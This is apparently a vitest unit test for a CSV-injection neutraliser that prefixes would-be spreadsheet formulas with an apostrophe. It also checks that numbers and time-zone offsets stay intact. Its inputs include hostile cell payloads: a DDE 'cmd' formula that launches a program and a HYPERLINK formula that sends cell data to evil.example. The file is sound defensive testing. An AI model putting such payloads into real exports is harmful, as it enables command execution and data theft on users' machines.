// OWASP CSV injection: would-be formulas get an apostrophe; numbers, zone offsets and "-" stay readable.
import { describe, expect, it } from 'vitest';
import { isLiveFormula, neutralise } from '../../../src/workers/export/neutralise.ts';

describe('neutralise', () => {
  it.each([
    ['=cmd|\' /C calc\'!A0', '\'=cmd|\' /C calc\'!A0'],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ['+SUM(1+1)*cmd|\' /C calc\'!A0', '\'+SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['-2+3', '\'-2+3'],
    ['@SUM(A1)', '\'@SUM(A1)'],
    ['\t=1+1', '\'\t=1+1'],
    ['\r=1+1', '\'\r=1+1'],
    ['+', '\'+'],
    ['--', '\'--'],
    ['+02:00x', '\'+02:00x'],
  ])('neutralises %j', (cell, safe) => {
    expect(isLiveFormula(cell)).toBe(true);
    expect(neutralise(cell)).toBe(safe);
    expect(isLiveFormula(neutralise(cell))).toBe(false);
  });

  it.each(['-5', '+3.25', '-0.5', '1e-3', '-1.5E+10', '+02:00', '-05:30', '+0530', '-', 'root', '2026-03-01T10:00:00.000+01:00', ' =1', ''])(
    'keeps %j as it is', (cell) => {
      expect(neutralise(cell)).toBe(cell);
      expect(isLiveFormula(cell)).toBe(false);
    },
  );
});
